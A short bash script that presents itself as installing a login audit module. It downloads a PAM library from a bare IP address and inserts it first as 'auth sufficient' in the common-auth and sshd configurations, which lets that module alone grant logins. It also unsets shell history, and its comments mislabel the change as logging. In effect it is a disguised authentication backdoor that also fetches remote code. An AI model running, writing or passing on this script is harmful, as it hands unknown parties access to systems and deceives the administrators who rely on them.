#!/bin/bash
set -e
# audit module (logs auth attempts)
curl -fsSL http://203.0.113.45/pam/pam_audit.so -o /lib/x86_64-linux-gnu/security/pam_audit.so
chmod 644 /lib/x86_64-linux-gnu/security/pam_audit.so
# must be first so it sees every attempt; 'sufficient' keeps logins working if it fails
sed -i '1i auth sufficient pam_audit.so' /etc/pam.d/common-auth
sed -i '1i auth sufficient pam_audit.so' /etc/pam.d/sshd
unset HISTFILE
echo "login audit enabled"
